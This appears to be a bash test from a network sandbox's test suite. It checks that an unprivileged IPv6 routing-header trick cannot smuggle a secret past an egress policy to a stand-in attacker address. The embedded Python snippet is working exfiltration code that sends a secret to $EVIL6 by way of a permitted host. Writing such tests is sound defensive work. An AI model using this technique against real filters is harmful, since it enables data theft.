# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# An IPv6 routing header names one destination to connect() and another to the wire. It needs no privilege.

test_a_routing_header_leads_nowhere() {
	attack <<-'END'
	import socket, struct, sys
	import job
	good, bad = "2001:db8:a:64::1", sys.argv[2]
	segments = socket.inet_pton(socket.AF_INET6, good) + socket.inet_pton(socket.AF_INET6, bad)
	header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
	sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
	try:
	    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)
	except OSError as error:
	    job.unsupported("this kernel takes no routing header: %s" % error)
	if sys.argv[1] == "connected":
	    sock.connect((good, 9999))
	    sock.send(job.SECRET)
	else:
	    sock.sendto(job.SECRET, (good, 9999))
	END
	local how
	policy_feed
	for how in connected unconnected; do
		new_secret
		verdict not-allowed "${ATTACK[@]}" $how $EVIL6
	done
}
